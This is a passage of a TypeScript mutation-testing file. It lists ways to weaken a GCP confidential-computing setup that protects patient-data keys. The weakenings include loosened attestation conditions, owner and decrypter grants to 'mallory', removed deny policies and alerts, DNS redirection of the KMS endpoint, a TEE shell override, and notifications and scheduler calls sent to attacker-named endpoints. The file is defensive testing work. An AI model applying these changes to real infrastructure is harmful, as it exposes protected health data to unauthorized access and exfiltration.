import type { Json, JsonObject, Mutator } from './mutator.js';

type Family = Mutator['family'];
type Inputs = JsonObject;

const object = (value: Json | undefined): JsonObject => {
  if (typeof value !== 'object' || value === null || Array.isArray(value)) throw new Error(`${JSON.stringify(value)} is no object`);
  return value;
};
const array = (value: Json | undefined): Json[] => {
  if (!Array.isArray(value)) throw new Error(`${JSON.stringify(value)} is no list`);
  return value;
};
const string = (value: Json | undefined): string => {
  if (typeof value !== 'string') throw new Error(`${JSON.stringify(value)} is no text`);
  return value;
};

const steps = (artifact: JsonObject): JsonObject[] => array(artifact['steps']).map(object);
const typeOf = (step: JsonObject): string => string(object(step['newState'])['type']);
const nameOf = (step: JsonObject): string => string(step['urn']).split('::').at(-1) ?? '';
const inputsOf = (step: JsonObject): Inputs => object(object(step['newState'])['inputs']);

/** The step of `CryptoKey phi-key`. */
function step(artifact: JsonObject, which: string): JsonObject {
  const [kind = '', name = ''] = which.split(' ');
  const found = steps(artifact).find((one) => typeOf(one).endsWith(`:${kind}`) && nameOf(one) === name);
  if (!found) throw new Error(`the preview has no ${which}`);
  return found;
}
const inputs = (artifact: JsonObject, which: string): Inputs => inputsOf(step(artifact, which));
function remove(artifact: JsonObject, matches: (one: JsonObject) => boolean): void {
  artifact['steps'] = array(artifact['steps']).filter((one) => !matches(object(one)));
}
const drop = (which: string) => (artifact: JsonObject): void => { const found = step(artifact, which); remove(artifact, (one) => one['urn'] === found['urn']); };
function add(artifact: JsonObject, type: string, name: string, values: JsonObject, state: JsonObject = {}): void {
  const urn = `urn:pulumi:gcp::tee-kit::${type}::${name}`;
  array(artifact['steps']).push({ op: 'create', urn, newState: { urn, type, custom: true, ...state, inputs: values } });
}
const adding = (type: string, name: string, values: JsonObject) => (artifact: JsonObject): void => add(artifact, type, name, values);
/** Sets a value at a dotted path; undefined removes it. */
const set = (which: string, path: string, value: Json | undefined) => (artifact: JsonObject): void => {
  const keys = path.split('.');
  let current = inputs(artifact, which);
  for (const key of keys.slice(0, -1)) current = Array.isArray(current) ? object((current as Json[])[Number(key)]) : object(Array.isArray(current[key]) ? (current[key] as unknown as JsonObject[])[0] : (current[key] ??= {}));
  if (value === undefined) delete current[keys.at(-1) as string];
  else current[keys.at(-1) as string] = value;
};
const edit = (which: string, change: (values: Inputs) => void) => (artifact: JsonObject): void => change(inputs(artifact, which));
const protect = (which: string, value: boolean) => (artifact: JsonObject): void => { object(step(artifact, which)['newState'])['protect'] = value; };
const both = (...changes: ((artifact: JsonObject) => void)[]) => (artifact: JsonObject): void => { for (const change of changes) change(artifact); };

const PROVIDER = 'WorkloadIdentityPoolProvider phi-key';
const condition = (change: (text: string) => string) => edit(PROVIDER, (values) => {
  const before = string(values['attributeCondition']);
  const after = change(before);
  if (after === before) throw new Error('the condition has nothing to change');
  values['attributeCondition'] = after;
});
const swap = (from: string | RegExp, to: string) => condition((text) => text.replace(from, to));

interface Conjunct { readonly name: string; readonly text: string; readonly path: string }
/** The conjuncts of the shipped condition, as the artifact spells them. */
const CONJUNCTS: readonly Conjunct[] = [
  { name: 'swname', path: 'swname', text: 'assertion.swname == "CONFIDENTIAL_SPACE"' },
  { name: 'dbgstat', path: 'dbgstat', text: 'assertion.dbgstat == "disabled-since-boot"' },
  { name: 'secboot', path: 'secboot', text: 'assertion.secboot == true' },
  { name: 'stable', path: 'submods.confidential_space.support_attributes', text: '"STABLE" in assertion.submods.confidential_space.support_attributes' },
  { name: 'hwmodel', path: 'hwmodel', text: 'assertion.hwmodel in ["GCP_INTEL_TDX"]' },
  { name: 'project-id', path: 'submods.gce.project_id', text: 'assertion.submods.gce.project_id == "example-phi-workload"' },
  { name: 'project-number', path: 'submods.gce.project_number', text: 'assertion.submods.gce.project_number == "100000000001"' },
  { name: 'service-account', path: 'google_service_accounts', text: '"clinical-decision-prod-tee@example-phi-workload.iam.gserviceaccount.com" in assertion.google_service_accounts' },
  { name: 'digest', path: 'submods.container.image_digest', text: 'assertion.submods.container.image_digest in ["sha256:67682bda769fae1ccf5183192b8daf37b64cae99c6c3302650f6f8bf5f0f95df"]' },
  { name: 'command', path: 'submods.container.cmd_override', text: '(!has(assertion.submods.container.cmd_override) || size(assertion.submods.container.cmd_override) == 0)' },
  { name: 'environment', path: 'submods.container.env_override', text: '(!has(assertion.submods.container.env_override) || size(assertion.submods.container.env_override) == 0)' },
];
const without = (conjuncts: readonly string[], text: string): string => conjuncts.reduce((rest, one) => (rest.includes(` && ${one}`) ? rest.replace(` && ${one}`, '') : rest.replace(`${one} && `, '')), text);

const weaker = (family: Family) => (name: string, apply: Mutator['apply']): Mutator => ({ name, family, effect: 'weaker', apply });
const harmless = (family: Family) => (name: string, apply: Mutator['apply']): Mutator => ({ name, family, effect: 'harmless', apply });
const key = weaker('attested-key');
const vm = weaker('confidential-vm');
const net = weaker('private-network');
const log = weaker('immutable-log');
const tag = weaker('baa-tag');
const same = { key: harmless('attested-key'), vm: harmless('confidential-vm'), net: harmless('private-network'), log: harmless('immutable-log'), tag: harmless('baa-tag') };

const DIGEST = 'sha256:67682bda769fae1ccf5183192b8daf37b64cae99c6c3302650f6f8bf5f0f95df';
const OTHER_DIGEST = `sha256:${'b'.repeat(64)}`;
const POOL = 'principalSet://iam.googleapis.com/projects/100000000002/locations/global/workloadIdentityPools/clinical-decision-prod';
const MALLORY = 'user:mallory@example.org';
const TEE_ACCOUNT = 'clinical-decision-prod-tee@example-phi-workload.iam.gserviceaccount.com';
const DEPLOYER = 'deploy@example-phi-keys.iam.gserviceaccount.com';
const KEY_ID = '${gcp:kms/cryptoKey:CryptoKey::phi-key.id}';
const NETWORK = '${gcp:compute/network:Network::network.id}';

interface Binding { role: string; members: string[]; condition?: JsonObject }
const policy = (change: (bindings: Binding[]) => void) => edit('CryptoKeyIAMPolicy phi-key', (values) => {
  const data = JSON.parse(string(values['policyData'])) as { bindings: Binding[] };
  change(data.bindings);
  values['policyData'] = JSON.stringify(data);
});
const bind = (role: string, member: string) => policy((bindings) => void bindings.push({ role, members: [member] }));
type DenyRule = { deniedPermissions: string[]; deniedPrincipals: string[]; exceptionPrincipals: string[]; denialCondition?: JsonObject };
const deny = (index: number, change: (rule: DenyRule) => void) => edit('DenyPolicy phi-key', (values) => change(object(array(values['rules'])[index])['denyRule'] as unknown as DenyRule));
const grant = (project: string, role: string, member: string) => adding('gcp:projects/iAMMember:IAMMember', 'sibling', { project, role, member });

/** Makes a resource with a provider of its own, which lays what the inputs do not say. */
const through = (which: string, defaults: JsonObject, ...dropped: readonly string[]) => (artifact: JsonObject): void => {
  add(artifact, 'pulumi:providers:gcp', 'other', defaults);
  const state = object(step(artifact, which)['newState']);
  state['provider'] = 'urn:pulumi:gcp::tee-kit::pulumi:providers:gcp::other::1';
  for (const name of dropped) delete object(state['inputs'])[name];
};
/** A role that its members take on when they like. */
const entitlement = (role: string, member: string) => adding('gcp:privilegedaccessmanager/entitlement:Entitlement', 'entitled', {
  parent: 'projects/example-phi-keys', location: 'global', maxRequestDuration: '3600s', eligibleUsers: [{ principals: [member] }],
  privilegedAccess: { gcpIamAccess: { resource: '//cloudresourcemanager.googleapis.com/projects/example-phi-keys', roleBindings: [{ role }] } },
});

const TEE = 'RegionInstanceTemplate tee';
const GATEWAY = 'Instance gateway-host';
const metadata = (name: string, value: Json | undefined) => edit(TEE, (values) => { const data = object(values['metadata']); if (value === undefined) delete data[name]; else data[name] = value; });
const nic = (which: string, change: (one: JsonObject) => void) => edit(which, (values) => change(object(array(values['networkInterfaces'])[0])));
const disk = (change: (one: JsonObject) => void) => edit(TEE, (values) => change(object(array(values['disks'])[0])));

const FIREWALL = 'NetworkFirewallPolicyWithRules network';
const rules = (change: (all: JsonObject[]) => void) => edit(FIREWALL, (values) => { const all = array(values['rules']).map(object); change(all); values['rules'] = all; });
const rule = (name: string, change: (one: JsonObject) => void) => rules((all) => { const found = all.find((one) => one['ruleName'] === name); if (!found) throw new Error(`no rule ${name}`); change(found); });
const cut = (name: string) => rules((all) => { const index = all.findIndex((one) => one['ruleName'] === name); if (index < 0) throw new Error(`no rule ${name}`); all.splice(index, 1); });
const open = (ruleName: string, direction: string, match: JsonObject, extra: JsonObject = {}) => rules((all) => void all.push({ ruleName, priority: 7, direction, action: 'allow', enableLogging: true, match: { layer4Configs: [{ ipProtocol: 'all' }], ...match }, ...extra }));

const PERIMETER = 'ServicePerimeter perimeter';
const status = (change: (one: JsonObject) => void) => edit(PERIMETER, (values) => change(object(values['status'])));
const orgPolicy = (name: string) => (artifact: JsonObject): void => { const found = steps(artifact).filter((one) => typeOf(one) === 'gcp:orgpolicy/policy:Policy' && nameOf(one).endsWith(name)); if (found.length === 0) throw new Error(`no ${name}`); remove(artifact, (one) => found.includes(one)); };

const CONDITION_WEAKENINGS: readonly Mutator[] = CONJUNCTS.flatMap(({ name, text }) => [
  key(`condition-drop-${name}`, condition((whole) => without([text], whole))),
  key(`condition-or-${name}`, swap(text, `(${text} || assertion.sub != "")`)),
  key(`condition-true-${name}`, swap(text, `(${text} || true)`)),
  key(`condition-negate-${name}`, swap(text, `!(${text})`)),
]);

const KEY_WEAKENINGS: readonly Mutator[] = [
  ...CONDITION_WEAKENINGS,
  key('condition-true', set(PROVIDER, 'attributeCondition', 'true')),
  key('condition-gone', set(PROVIDER, 'attributeCondition', undefined)),
  key('condition-not-told', set(PROVIDER, 'attributeCondition', '[secret]')),
  key('condition-any-debug', swap('assertion.dbgstat == "disabled-since-boot"', 'assertion.dbgstat in ["disabled-since-boot", "enabled"]')),
  key('condition-not-enabled', swap('assertion.dbgstat == "disabled-since-boot"', 'assertion.dbgstat != "enable"')),
  key('condition-has-dbgstat', swap('assertion.dbgstat == "disabled-since-boot"', 'has(assertion.dbgstat)')),
  key('condition-starts-with', swap('assertion.swname == "CONFIDENTIAL_SPACE"', 'assertion.swname.startsWith("")')),
  key('condition-matches', swap('assertion.swname == "CONFIDENTIAL_SPACE"', 'assertion.swname.matches(".*")')),
  key('condition-project-prefix', swap('assertion.submods.gce.project_id == "example-phi-workload"', 'assertion.submods.gce.project_id.startsWith("example-phi")')),
  key('condition-project-either', condition((text) => without([CONJUNCTS[6]!.text], text).replace(CONJUNCTS[5]!.text, `(${CONJUNCTS[5]!.text} || ${CONJUNCTS[6]!.text})`))),
  key('condition-projects-gone', condition((text) => without([CONJUNCTS[5]!.text, CONJUNCTS[6]!.text], text))),
  key('condition-other-project', swap('"example-phi-workload" &&', '"attacker-project" &&')),
  key('condition-shielded', swap('["GCP_INTEL_TDX"]', '["GCP_INTEL_TDX", "GCP_SHIELDED_VM"]')),
  key('condition-not-shielded-misspelt', swap('assertion.hwmodel in ["GCP_INTEL_TDX"]', 'assertion.hwmodel != "SHIELDED_VM"')),
  key('condition-usable', swap('"STABLE" in assertion', '"USABLE" in assertion')),
  key('condition-experimental', swap('"STABLE" in assertion.submods.confidential_space.support_attributes', '("STABLE" in assertion.submods.confidential_space.support_attributes || "EXPERIMENTAL" in assertion.submods.confidential_space.support_attributes)')),
  key('condition-swversion-instead', swap('"STABLE" in assertion.submods.confidential_space.support_attributes', 'assertion.swversion[0] >= "240000"')),
  key('condition-other-digest', swap(`["${DIGEST}"]`, `["${DIGEST}", "${OTHER_DIGEST}"]`)),
  key('condition-reference-instead', swap(`assertion.submods.container.image_digest in ["${DIGEST}"]`, 'assertion.submods.container.image_reference.startsWith("us-central1-docker.pkg.dev/example-phi-workload/")')),
  key('condition-digest-contains', swap(`assertion.submods.container.image_digest in ["${DIGEST}"]`, 'assertion.submods.container.image_digest.contains("sha256:")')),
  key('condition-has-command', swap('!has(assertion.submods.container.cmd_override)', 'has(assertion.submods.container.cmd_override)')),
  key('condition-command-size', swap('size(assertion.submods.container.cmd_override) == 0', 'size(assertion.submods.container.cmd_override) <= 1')),
  key('condition-environment-any', swap('size(assertion.submods.container.env_override) == 0', 'size(assertion.submods.container.env_override) >= 0')),
  key('condition-any-account', swap(`"${TEE_ACCOUNT}" in assertion.google_service_accounts`, 'size(assertion.google_service_accounts) > 0')),
  key('condition-other-account', swap(TEE_ACCOUNT, 'clinical-decision-prod-gateway@example-phi-workload.iam.gserviceaccount.com')),
  key('condition-secboot-either', swap('assertion.secboot == true', 'assertion.secboot in [true, false]')),
  key('condition-ternary', condition((text) => `assertion.swname == "GCE" ? true : (${text})`)),
  key('condition-whole-or', condition((text) => `(${text}) || assertion.submods.gce.project_id == "example-phi-workload"`)),
  key('condition-not-cel', condition((text) => `${text} &&`)),
  key('issuer-of-others', set(PROVIDER, 'oidc.issuerUri', 'https://accounts.google.com')),
  key('issuer-look-alike', set(PROVIDER, 'oidc.issuerUri', 'https://confidentialcomputing.googleapis.com.example.org/')),
  key('audience-of-a-partner', edit(PROVIDER, (values) => { array(object(values['oidc'])['allowedAudiences']).push('https://partner.example.org'); })),
  key('audience-another', set(PROVIDER, 'oidc.allowedAudiences', ['https://example.org'])),
  key('keys-of-the-operator', set(PROVIDER, 'oidc.jwksJson', '{"keys":[]}')),
  key('provider-aws', edit(PROVIDER, (values) => { delete values['oidc']; values['aws'] = { accountId: '111122223333' }; })),
  key('second-provider', (artifact) => add(artifact, 'gcp:iam/workloadIdentityPoolProvider:WorkloadIdentityPoolProvider', 'second', { ...structuredClone(inputs(artifact, PROVIDER)), workloadIdentityPoolProviderId: 'second', attributeCondition: 'assertion.swname == "CONFIDENTIAL_SPACE"' })),
  key('second-provider-github', adding('gcp:iam/workloadIdentityPoolProvider:WorkloadIdentityPoolProvider', 'github', { project: 'example-phi-keys', workloadIdentityPoolId: 'clinical-decision-prod', workloadIdentityPoolProviderId: 'github', attributeMapping: { 'google.subject': 'assertion.sub', 'attribute.image_digest': 'assertion.ref' }, oidc: { issuerUri: 'https://token.actions.githubusercontent.com' } })),
  key('mapping-digest-constant', edit(PROVIDER, (values) => { object(values['attributeMapping'])['attribute.image_digest'] = `"${DIGEST}"`; delete values['attributeCondition']; })),
  key('mapping-digest-from-reference', edit(PROVIDER, (values) => { object(values['attributeMapping'])['attribute.image_digest'] = 'assertion.submods.container.image_reference'; })),
  key('pool-mode', set('WorkloadIdentityPool phi-key', 'mode', 'TRUST_DOMAIN')),
  key('binding-whole-pool', policy((bindings) => { bindings[0]!.members = [`${POOL}/*`]; })),
  key('binding-whole-pool-and-no-condition', both(policy((bindings) => { bindings[0]!.members = [`${POOL}/*`]; }), set(PROVIDER, 'attributeCondition', undefined), deny(0, (one) => { one.exceptionPrincipals = [`${POOL}/*`]; }))),
  key('binding-other-digest', policy((bindings) => { bindings[0]!.members.push(`${POOL}/attribute.image_digest/${OTHER_DIGEST}`); })),
  key('binding-other-digest-everywhere', both(policy((bindings) => { bindings[0]!.members.push(`${POOL}/attribute.image_digest/${OTHER_DIGEST}`); }), deny(0, (one) => { one.exceptionPrincipals.push(`${POOL}/attribute.image_digest/${OTHER_DIGEST}`); }), swap(`["${DIGEST}"]`, `["${DIGEST}", "${OTHER_DIGEST}"]`))),
  key('binding-other-pool', policy((bindings) => { bindings[0]!.members.push('principalSet://iam.googleapis.com/projects/100000000002/locations/global/workloadIdentityPools/other/*'); })),
  key('binding-user', policy((bindings) => { bindings[0]!.members.push(MALLORY); })),
  key('binding-user-decrypter', bind('roles/cloudkms.cryptoKeyDecrypter', MALLORY)),
  key('binding-crypto-operator', bind('roles/cloudkms.cryptoOperator', MALLORY)),
  key('binding-delegated', bind('roles/cloudkms.cryptoKeyDecrypterViaDelegation', MALLORY)),
  key('binding-tee-account', bind('roles/cloudkms.cryptoKeyEncrypterDecrypter', `serviceAccount:${TEE_ACCOUNT}`)),
  key('binding-all-users', bind('roles/cloudkms.cryptoKeyDecrypter', 'allAuthenticatedUsers')),
  key('binding-administrator-uses', policy((bindings) => { bindings[0]!.members.push('group:phi-key-administrators@hospital.example'); })),
  key('binding-admin', bind('roles/cloudkms.admin', MALLORY)),
  key('binding-owner', bind('roles/owner', MALLORY)),
  key('binding-unknown-role', bind('projects/example-phi-keys/roles/elsewhere', MALLORY)),
  key('binding-conditional', policy((bindings) => void bindings.push({ role: 'roles/cloudkms.cryptoKeyDecrypter', members: [MALLORY], condition: { title: 'soon', expression: 'request.time < timestamp("2030-01-01T00:00:00Z")' } }))),
  key('policy-not-told', set('CryptoKeyIAMPolicy phi-key', 'policyData', '[secret]')),
  key('policy-gone', drop('CryptoKeyIAMPolicy phi-key')),
  key('policy-members-instead', both(drop('CryptoKeyIAMPolicy phi-key'), adding('gcp:kms/cryptoKeyIAMMember:CryptoKeyIAMMember', 'one', { cryptoKeyId: KEY_ID, role: 'roles/cloudkms.cryptoKeyEncrypterDecrypter', member: `${POOL}/attribute.image_digest/${DIGEST}` }))),
  key('member-beside-the-policy', adding('gcp:kms/cryptoKeyIAMMember:CryptoKeyIAMMember', 'beside', { cryptoKeyId: KEY_ID, role: 'roles/cloudkms.cryptoKeyDecrypter', member: MALLORY })),
  key('member-by-name', adding('gcp:kms/cryptoKeyIAMMember:CryptoKeyIAMMember', 'beside', { cryptoKeyId: 'projects/example-phi-keys/locations/us-central1/keyRings/clinical-decision-prod-phi/cryptoKeys/phi', role: 'roles/cloudkms.cryptoKeyDecrypter', member: MALLORY })),
  key('ring-binding', edit('KeyRingIAMPolicy phi-key-ring', (values) => { values['policyData'] = JSON.stringify({ bindings: [{ role: 'roles/cloudkms.cryptoKeyDecrypter', members: [MALLORY] }] }); })),
  key('ring-admin', edit('KeyRingIAMPolicy phi-key-ring', (values) => { values['policyData'] = JSON.stringify({ bindings: [{ role: 'roles/cloudkms.admin', members: [MALLORY] }] }); })),
  key('ring-member', adding('gcp:kms/keyRingIAMMember:KeyRingIAMMember', 'ring', { keyRingId: '${gcp:kms/keyRing:KeyRing::phi-key-ring.id}', role: 'roles/cloudkms.cryptoKeyDecrypter', member: MALLORY })),
  key('ring-policy-gone', drop('KeyRingIAMPolicy phi-key-ring')),
  ...(['roles/owner', 'roles/editor', 'roles/cloudkms.admin', 'roles/cloudkms.cryptoKeyDecrypter', 'roles/iam.workloadIdentityPoolAdmin', 'roles/resourcemanager.projectIamAdmin', 'roles/iam.securityAdmin'] as const).map((role) => key(`project-${role.slice(6).replace(/\W/g, '-').toLowerCase()}`, grant('example-phi-keys', role, MALLORY))),
  key('project-owner-by-number', grant('100000000002', 'roles/owner', MALLORY)),
  key('project-policy', adding('gcp:projects/iAMPolicy:IAMPolicy', 'whole', { project: 'example-phi-keys', policyData: JSON.stringify({ bindings: [{ role: 'roles/owner', members: [MALLORY] }] }) })),
  key('folder-decrypter', adding('gcp:folder/iAMMember:IAMMember', 'folder', { folder: 'folders/1', role: 'roles/cloudkms.cryptoKeyDecrypter', member: MALLORY })),
  key('organization-owner', adding('gcp:organizations/iAMMember:IAMMember', 'org', { orgId: '100000000003', role: 'roles/owner', member: MALLORY })),
  key('organization-deny-admin', adding('gcp:organizations/iAMMember:IAMMember', 'org', { orgId: '100000000003', role: 'roles/iam.denyAdmin', member: MALLORY })),
  key('custom-role-decrypts', edit('IAMCustomRole phi-key-administrator', (values) => void array(values['permissions']).push('cloudkms.cryptoKeyVersions.useToDecrypt'))),
  key('custom-role-sets-policy', edit('IAMCustomRole phi-key-administrator', (values) => void array(values['permissions']).push('cloudkms.cryptoKeys.setIamPolicy'))),
  key('administrators-change-the-gate', policy((bindings) => { bindings[2]!.members.push('group:phi-key-administrators@hospital.example'); })),
  key('impersonate-deployer', adding('gcp:serviceaccount/iAMMember:IAMMember', 'actor', { serviceAccountId: `projects/example-phi-keys/serviceAccounts/${DEPLOYER}`, role: 'roles/iam.serviceAccountTokenCreator', member: MALLORY })),
  key('impersonate-deployer-federated', adding('gcp:serviceaccount/iAMMember:IAMMember', 'actor', { serviceAccountId: `projects/example-phi-keys/serviceAccounts/${DEPLOYER}`, role: 'roles/iam.workloadIdentityUser', member: `${POOL}/*` })),
  key('key-file-of-the-deployer', adding('gcp:serviceaccount/key:Key', 'file', { serviceAccountId: DEPLOYER })),
  key('deny-gone', drop('DenyPolicy phi-key')),
  key('deny-decrypt-gone', edit('DenyPolicy phi-key', (values) => void array(values['rules']).shift())),
  key('deny-gate-gone', edit('DenyPolicy phi-key', (values) => void array(values['rules']).pop())),
  key('deny-exception-user', deny(0, (one) => void one.exceptionPrincipals.push('principal://goog/subject/mallory@example.org'))),
  key('deny-exception-all', deny(0, (one) => void one.exceptionPrincipals.push('principalSet://goog/public:all'))),
  key('deny-gate-exception', deny(1, (one) => void one.exceptionPrincipals.push('principal://goog/subject/mallory@example.org'))),
  key('deny-permission-gone', deny(0, (one) => void one.deniedPermissions.shift())),
  key('deny-delegation-gone', deny(0, (one) => void one.deniedPermissions.pop())),
  key('deny-set-policy-gone', deny(1, (one) => { one.deniedPermissions = one.deniedPermissions.filter((permission) => !permission.includes('cryptoKeys.setIamPolicy')); })),
  key('deny-pool-update-gone', deny(1, (one) => { one.deniedPermissions = one.deniedPermissions.filter((permission) => !permission.includes('Providers.update')); })),
  key('deny-somebody-only', deny(0, (one) => { one.deniedPrincipals = ['principal://goog/subject/mallory@example.org']; })),
  key('deny-elsewhere', set('DenyPolicy phi-key', 'parent', encodeURIComponent('cloudresourcemanager.googleapis.com/projects/example-phi-workload'))),
  key('deny-conditional', deny(0, (one) => { one.denialCondition = { expression: 'resource.matchTag("x/env", "prod")' }; })),
  key('software-key', set('CryptoKey phi-key', 'versionTemplate.protectionLevel', 'SOFTWARE')),
  key('default-protection', set('CryptoKey phi-key', 'versionTemplate', undefined)),
  key('external-key', set('CryptoKey phi-key', 'versionTemplate.protectionLevel', 'EXTERNAL')),
  key('software-disk-key', set('CryptoKey cmek-disk', 'versionTemplate.protectionLevel', 'SOFTWARE')),
  key('rotation-gone', set('CryptoKey phi-key', 'rotationPeriod', undefined)),
  key('rotation-ten-years', set('CryptoKey phi-key', 'rotationPeriod', '315360000s')),
  key('destroyed-in-a-day', set('CryptoKey phi-key', 'destroyScheduledDuration', '86400s')),
  key('key-not-protected', protect('CryptoKey phi-key', false)),
  key('key-deleted-by-the-provider', set('CryptoKey phi-key', 'deletionPolicy', 'DELETE')),
  key('key-called-infrastructure', edit('CryptoKey phi-key', (values) => { object(values['labels'])['key-purpose'] = 'infrastructure'; })),
  key('key-in-the-workload-project', both(set('KeyRing phi-key-ring', 'project', 'example-phi-workload'))),
  key('key-encrypts-disks', edit(GATEWAY, (values) => { object(values['bootDisk'])['kmsKeySelfLink'] = KEY_ID; })),
  key('key-gone', drop('CryptoKey phi-key')),
  key('secret-in-state', adding('gcp:kms/secretCiphertext:SecretCiphertext', 'plain', { cryptoKey: KEY_ID, plaintext: 'x' })),
  key('autokey-beside', adding('gcp:kms/cryptoKey:CryptoKey', 'plain', { name: 'plain', keyRing: '${gcp:kms/keyRing:KeyRing::phi-key-ring.id}', rotationPeriod: '7776000s' })),
  key('organisation-policy-protection', orgPolicy('cloudkms.allowedProtectionLevels')),
  key('organisation-policy-providers', orgPolicy('iam.workloadIdentityPoolProviders')),
  key('organisation-policy-keys', orgPolicy('iam.disableServiceAccountKeyCreation')),
  key('organisation-policy-destroy', orgPolicy('cloudkms.minimumDestroyScheduledDuration')),
  key('alert-key-policy-gone', drop('AlertPolicy alerts-keys-key-policy')),
  key('alert-outside-decrypt-off', set('AlertPolicy alerts-keys-outside-decrypt', 'enabled', false)),
  key('alert-deny-policy-gone', drop('AlertPolicy alerts-keys-deny-policy')),
  key('alerts-to-nobody', set('AlertPolicy alerts-keys-identity-pool', 'notificationChannels', [])),
];

const ORGANIZATION = { orgId: '100000000003', member: MALLORY };
const AROUND: readonly Mutator[] = [
  key('owner-on-request', entitlement('roles/owner', 'user:mallory@hospital.example')),
  key('provider-endpoint', adding('pulumi:providers:gcp', 'other', { kmsCustomEndpoint: 'https://kms.example.org/v1/' })),
  key('provider-credentials', adding('pulumi:providers:gcp', 'other', { accessToken: 'ya29.a' })),
  key('one-subject', set(PROVIDER, 'attributeMapping', { 'google.subject': '"workload"', 'attribute.image_digest': 'assertion.submods.container.image_digest' })),
  key('autokey', adding('gcp:kms/autokeyConfig:AutokeyConfig', 'auto', { folder: 'folders/1', keyProject: 'projects/elsewhere' })),
  key('constraint-set-aside', adding('gcp:orgpolicy/policy:Policy', 'aside', { parent: 'projects/example-phi-keys', name: 'projects/example-phi-keys/policies/compute.restrictVpcPeering', spec: { reset: true } })),
  key('condition-weaker-hardware', swap('["GCP_INTEL_TDX"]', '["GCP_INTEL_TDX", "GCP_AMD_SEV"]')),
  key('condition-boolean-order', swap('assertion.secboot == true', 'assertion.secboot >= false')),
  key('condition-large-numbers', condition((text) => `(${text}) || 9007199254740993 != 9007199254740992`)),
  key('condition-macro-domain', swap(`"${TEE_ACCOUNT}" in assertion.google_service_accounts`, 'assertion.google_service_accounts.exists(one, one.endsWith("example-phi-workload.iam.gserviceaccount.com"))')),
  key('condition-macro-of-none', swap(`"${TEE_ACCOUNT}" in assertion.google_service_accounts`, `assertion.google_service_accounts.all(one, one == "${TEE_ACCOUNT}")`)),
  key('import-job', adding('gcp:kms/keyRingImportJob:KeyRingImportJob', 'job', { keyRing: '${gcp:kms/keyRing:KeyRing::phi-key-ring.id}', importJobId: 'x', importMethod: 'RSA_OAEP_3072_SHA256', protectionLevel: 'HSM' })),
  key('raw-key', edit('CryptoKey phi-key', (values) => { values['purpose'] = 'RAW_ENCRYPT_DECRYPT'; object(values['versionTemplate'])['algorithm'] = 'AES_128_CBC'; })),
  vm('fleet-metadata', edit('RegionInstanceGroupManager tee', (values) => { values['allInstancesConfig'] = { metadata: { 'tee-cmd': '["/bin/sh"]' } }; })),
  vm('one-machine-apart', adding('gcp:compute/regionPerInstanceConfig:RegionPerInstanceConfig', 'one', { name: 'i', region: 'us-central1', project: 'example-phi-workload', regionInstanceGroupManager: 'clinical-decision-prod-tee', preservedState: { metadata: { 'tee-cmd': '["/bin/sh"]' } } })),
  vm('schedule-of-another-template', edit('Job refresh-a', (values) => { object(values['httpTarget'])['body'] = Buffer.from('{"versions":[{"instanceTemplate":"projects/mallory/global/instanceTemplates/x"}]}').toString('base64'); })),
  vm('schedule-calls-elsewhere', edit('Job refresh-a', (values) => { object(values['httpTarget'])['uri'] = 'https://mallory.example/'; })),
  vm('os-policy', adding('gcp:osconfig/osPolicyAssignment:OsPolicyAssignment', 'policy', { location: 'us-central1-a', project: 'example-phi-workload', instanceFilter: { all: true } })),
  vm('machine-image', adding('gcp:compute/machineImage:MachineImage', 'copy', { project: 'example-phi-workload', sourceInstance: '${gcp:compute/instance:Instance::gateway-host.selfLink}' })),
  vm('snapshot-schedule', adding('gcp:compute/resourcePolicy:ResourcePolicy', 'nightly', { region: 'us-central1', project: 'example-phi-workload', snapshotSchedulePolicy: { schedule: { dailySchedule: { daysInCycle: 1, startTime: '04:00' } } } })),
  vm('organisation-policy-administrator', adding('gcp:organizations/iAMMember:IAMMember', 'admin', { ...ORGANIZATION, role: 'roles/orgpolicy.policyAdmin' })),
  vm('organisation-policy-inherits', edit('Policy guardrails-workload-compute.trustedImageProjects', (values) => { object(values['spec'])['inheritFromParent'] = true; })),
  vm('organisation-policy-older-api', adding('gcp:projects/organizationPolicy:OrganizationPolicy', 'older', { project: 'example-phi-workload', constraint: 'constraints/compute.requireOsLogin', booleanPolicy: { enforced: false } })),
  vm('constraint-for-some', edit('CustomConstraint guardrails', (values) => { values['condition'] = `${string(values['condition'])} && resource.name.startsWith("x")`; })),
  net('network-administrator', grant('example-phi-workload', 'roles/compute.networkAdmin', MALLORY)),
  net('perimeter-editor', adding('gcp:organizations/iAMMember:IAMMember', 'editor', { ...ORGANIZATION, role: 'roles/accesscontextmanager.policyEditor' })),
  net('tag-user', adding('gcp:tags/tagValueIamMember:TagValueIamMember', 'user', { tagValue: '${gcp:tags/tagValue:TagValue::network-tee.id}', role: 'roles/resourcemanager.tagUser', member: MALLORY })),
  net('tag-bound-elsewhere', adding('gcp:tags/locationTagBinding:LocationTagBinding', 'bound', { parent: '//compute.googleapis.com/projects/1/zones/us-central1-a/instances/1', location: 'us-central1-a', tagValue: '${gcp:tags/tagValue:TagValue::network-tee.id}' })),
  net('mirror', adding('gcp:compute/packetMirroring:PacketMirroring', 'mirror', { region: 'us-central1', project: 'example-phi-workload', network: { url: NETWORK }, collectorIlb: { url: 'x' } })),
  net('route-over-a-machine', adding('gcp:compute/route:Route', 'over', { network: NETWORK, destRange: '10.20.32.0/25', nextHopIp: '10.20.0.9' })),
  net('shared-network', adding('gcp:compute/sharedVPCHostProject:SharedVPCHostProject', 'host', { project: 'example-phi-workload' })),
  net('names-answered-elsewhere', both(adding('gcp:dns/responsePolicy:ResponsePolicy', 'answers', { responsePolicyName: 'answers', project: 'example-phi-workload', networks: [{ networkUrl: NETWORK }] }), adding('gcp:dns/responsePolicyRule:ResponsePolicyRule', 'answer', { responsePolicy: 'answers', project: 'example-phi-workload', ruleName: 'x', dnsName: 'cloudkms.googleapis.com.', localData: { localDatas: [{ name: 'cloudkms.googleapis.com.', type: 'A', rrdatas: ['203.0.113.9'] }] } }))),
  net('dns-record-weighted', edit('RecordSet network-googleapis-com-a', (values) => { delete values['rrdatas']; values['routingPolicy'] = { wrrs: [{ weight: 1, rrdatas: ['203.0.113.9'] }] }; })),
  net('perimeter-access-level', status((one) => { one['accessLevels'] = ['accessPolicies/100000000004/accessLevels/office']; })),
  net('perimeter-another-project', status((one) => void array(one['resources']).push('projects/999999999999'))),
  net('backend-of-elsewhere', edit('RegionBackendService gateway', (values) => void array(values['backends']).push({ group: 'projects/mallory/zones/us-central1-a/instanceGroups/x' }))),
  net('store-notification', adding('gcp:storage/notification:Notification', 'news', { bucket: '100000000001-clinical-decision-prod-phi', topic: 'projects/mallory/topics/x', payloadFormat: 'JSON_API_V1' })),
